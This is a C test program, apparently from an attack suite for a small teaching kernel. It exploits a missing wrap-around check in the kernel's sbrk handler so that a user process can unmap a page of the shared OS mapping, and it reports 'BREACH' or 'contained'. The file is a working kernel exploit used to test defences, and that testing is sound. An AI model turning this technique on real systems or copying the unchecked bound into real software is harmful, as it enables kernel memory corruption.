/* a_sbrkwrap: move the heap break into the OS region with a negative sbrk,
 * then shrink it there, so that the OS "frees the app's heap pages" in the
 * OS region: in the shared OS page tables.  os/svc/sys_proc.c sys_sbrk checks
 * a negative increment only against the heap's start, not for wrapping, so
 * brk + incr may land anywhere -- 0x10001000 here -- and the next
 * sbrk(-4096) unmaps 0x10000000 (the direct map of physical page 0) in every
 * address space and hands physical frame 0 to the frame allocator.  (A larger
 * decrement would unmap the OS's own code: the machine would die.)  Detected
 * by meminfo: one frame more free than before.
 * Prints ATTACK name=sbrkwrap ... result=contained | BREACH. */
#include "attack.h"

int main(void)
{
    uint32_t m0[3], m1[3];
    klos_meminfo(m0);
    uint32_t h = (uint32_t)klos_sbrk(0);
    int r1 = (int)klos_sbrk((int)(0x10001000u - h));     /* negative as an int */
    uint32_t b1 = (uint32_t)klos_sbrk(0);
    int r2 = 0;
    if (b1 == 0x10001000u)
        r2 = (int)klos_sbrk(-4096);
    uint32_t b2 = (uint32_t)klos_sbrk(0);
    klos_meminfo(m1);
    int moved = b1 != h;
    printf("ATTACK name=sbrkwrap brk=%x first=%d brk_after=%x second=%d brk_final=%x "
           "frames_free=%u/%u result=%s\n",
           h, r1, b1, r2, b2, m0[0], m1[0], moved ? "BREACH" : "contained");
    /* with the break in the OS region, shrinking it back would free this
     * app's own stack: just leave */
    return 0;
}
